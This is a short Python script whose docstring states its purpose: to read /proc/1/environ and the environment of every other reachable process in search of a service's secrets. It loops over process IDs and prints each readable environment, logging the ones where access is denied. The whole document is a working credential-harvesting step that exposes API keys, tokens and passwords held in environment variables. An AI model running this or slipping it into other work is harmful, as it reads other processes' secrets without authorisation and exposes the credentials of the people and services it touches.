"""Read /proc/1/environ and every other process's environment it can reach, looking for the
service's secrets."""

import os

for entry in ["1", *sorted(p for p in os.listdir("/proc") if p.isdigit())]:
    try:
        with open(f"/proc/{entry}/environ", "rb") as handle:
            print(f"READ {entry}:", handle.read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError as exc:
        print(f"denied {entry}: {exc.strerror}")
